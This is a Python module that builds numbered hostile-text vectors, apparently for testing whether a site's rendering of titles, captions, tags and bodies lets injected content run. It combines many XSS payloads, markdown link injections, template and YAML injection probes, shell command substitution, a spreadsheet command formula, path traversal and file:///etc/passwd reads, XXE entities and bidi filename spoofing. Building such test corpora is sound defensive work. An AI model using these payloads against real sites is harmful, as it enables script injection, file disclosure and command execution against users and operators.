"""A grammar of hostile text: what might run, be fetched or deceive, in every shape we know.

A vector is a payload in a dress, in a place. It carries a number by which it is found again on the
site: where it is text, the words around the number are shown as they were written.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import cycle, islice, product
from typing import Literal

Place = Literal["title", "paragraph", "caption", "byline", "source", "front title", "body", "tag"]

# The call that a browser would make if any of this were code; the page counts the calls.
CALL = "parent.__ran(NUMBER)"
ELSEWHERE = "http://elsewhere.example/NUMBER"

ELEMENTS = (
    "img svg body iframe input details video audio object embed math marquee select textarea"
    " keygen form button a p div style link base meta isindex frameset table td template noscript"
    " xmp plaintext listing title script image animate set use foreignObject portal dialog slot"
).split()
EVENTS = (
    "onload onerror onclick onfocus ontoggle onmouseover onanimationstart onbegin onpageshow"
    " onpointerenter onstart onbeforeinput oncanplay onscroll oncopy onwheel"
).split()
SCHEMES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    "java\nscript:{call}",
    "\x01javascript:{call}",
    " javascript:{call}",
    "javascript&colon;{call}",
    "javascript&#58;{call}",
    "&#106;avascript:{call}",
    "&#x6A&#x61vascript:{call}",
    "javascript\\:{call}",
    "java\\script:{call}",
    "%6Aavascript:{call}",
    "javascript://a.example/%0a{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD4x",
    "data:image/svg+xml,<svg onload={call}>",
    "vbscript:{call}",
    "blob:{elsewhere}",
    "file:///etc/passwd",
    "view-source:{elsewhere}",
    "//elsewhere.example/NUMBER",
    "\\\\elsewhere.example\\NUMBER",
    "http:\\\\elsewhere.example/NUMBER",
    "feed:javascript:{call}",
    "x:javascript:{call}",
)
ATTRIBUTES = "href src action formaction data poster srcdoc xlink:href background ping".split()
ELEMENT_FORMS = (
    "<{element} {event}={call}>",
    "<{element}/{event}='{call}'//",
    '"><{element} src=x {event}="{call}">',
    "<{element} {event}&#61;{call}>",
)
MARKDOWN = (
    "[click NUMBER]({url})",
    "![image NUMBER]({url})",
    "<{url}>",
    '[click NUMBER](<{url}> "title")',
    "[click NUMBER][{url}]",
    "[a]: {url}\n\n[a] NUMBER",
    '[click NUMBER](http://a.example/" onmouseover={call} ")',
    "`code`[click NUMBER]({url})",
    "*[click NUMBER]({url})*",
    "> [click NUMBER]({url})",
    "- [click NUMBER]({url})",
    "| a |\n| - |\n| [click NUMBER]({url}) |",
    "```html\n<a href='{url}'>NUMBER</a>\n```",
    "[click NUMBER]({url}\n)",
    "[[click NUMBER]({url})]({url})",
)
SCRIPTS = (
    "<script>{call}</script>",
    "<script src={elsewhere}></script>",
    "</script><script>{call}</script>",
    "</title><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</style><script>{call}</script>",
    "--><script>{call}</script>",
    "]]><script>{call}</script>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<<script>{call}//<</script>",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "%3Cscript%3E{call}%3C/script%3E",
    "＜script＞{call}＜/script＞",
    "<ſcript>{call}</ſcript>",
    "<script\x0c>{call}</script>",
    "<scr\x00ipt>{call}</scr\x00ipt>",
    "\ufeff<script>{call}</script>",
    "<!--[if IE]><script>{call}</script><![endif]-->",
    "<?xml-stylesheet href='{elsewhere}'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '{elsewhere}'>]>&y;",
    "<style>@import '{elsewhere}';</style>",
    "<link rel=stylesheet href={elsewhere}>",
    "<link rel=prefetch href={elsewhere}>",
    "<meta http-equiv=refresh content='0;url={elsewhere}'>",
    "<base href='{elsewhere}/'>",
    "<p style='background:url({elsewhere})'>",
    "<svg><script href='{elsewhere}'/></svg>",
    "<svg><a xlink:href='javascript:{call}'><text y=9>NUMBER</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<form><button formaction=javascript:{call}>NUMBER",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<object data='javascript:{call}'></object>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<img src=`x` onerror=`{call}`>",
    "<a href='javascript:{call}' autofocus onfocus={call}>NUMBER</a>",
)
TEMPLATES = (
    "{{{{ NUMBER * 7 }}}}",
    "{{% for x in range(NUMBER) %}}x{{% endfor %}}",
    "{{# NUMBER #}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} NUMBER",
    "{{{{ config }}}} NUMBER {{% include '/etc/passwd' %}}",
    "{{% raw %}} NUMBER",
    "${{NUMBER * 7}} #{{NUMBER * 7}} <%= NUMBER * 7 %>",
    "{{{{< shortcode NUMBER >}}}}",
    "!!python/object/apply:os.system [NUMBER]",
    "--- NUMBER",
    "*NUMBER &NUMBER",
    "../../../../etc/NUMBER",
    "..\\..\\NUMBER",
    "CON NUMBER",
    "NUMBER/../../x",
    "%2e%2e%2fNUMBER",
    "$(touch NUMBER) `touch NUMBER` ; touch NUMBER",
    "=cmd|'/c calc'!NUMBER",
    "NUMBER\u202egnp.exe",
    "\u2066NUMBER\u2069\u202d",
    "\x1b]0;NUMBER\x07\x1b[2J",
    "NUMBER\u2028\u2029",
    "nul\x00NUMBER",
    "ＮUMBER NUMBER \U000e0041",
)
PLACES: tuple[Place, ...] = (
    "title",
    "paragraph",
    "body",
    "front title",
    "byline",
    "source",
    "caption",
    "tag",
)


@dataclass(frozen=True, slots=True)
class Vector:
    """A hostile text, where it is put, and its number."""

    number: int
    place: Place
    text: str


def make_vectors(count: int = 0) -> Iterator[Vector]:
    """Yield every vector of the grammar; with a count, so many of them, evenly from all of it."""
    payloads = list(dict.fromkeys(_make_payloads()))
    step = max(1, len(payloads) // count) if count else 1
    chosen = islice(payloads, 0, None, step)
    for index, (payload, place) in enumerate(zip(chosen, cycle(PLACES), strict=False)):
        yield Vector(100_000 + index, place, payload.replace("NUMBER", str(100_000 + index)))


def _make_payloads() -> Iterator[str]:
    """Yield payloads with ``NUMBER`` where their number goes."""
    known = {"call": CALL, "elsewhere": ELSEWHERE}
    for form, element, event in product(ELEMENT_FORMS, ELEMENTS, EVENTS):
        yield form.format(element=element, event=event, **known)
    urls = [scheme.format(**known) for scheme in SCHEMES]
    for form, url in product(MARKDOWN, urls):
        yield form.format(url=url, call=CALL)
    for element, attribute, url in product(ELEMENTS, ATTRIBUTES, urls[:: len(urls) // 5]):
        yield f"<{element} {attribute}='{url}'>NUMBER</{element}>"
    # Each in some dress: cut, doubled, in other letters, inside what might be trusted.
    dresses = ("{}", "a *b* {}", "`{}`", "{0}{0}", "<b>{}</b>", "<!-- {} -->", "\\{}", "# {}")
    for dress, script in product(dresses, (*SCRIPTS, *TEMPLATES)):
        yield dress.format(script.format(**known))
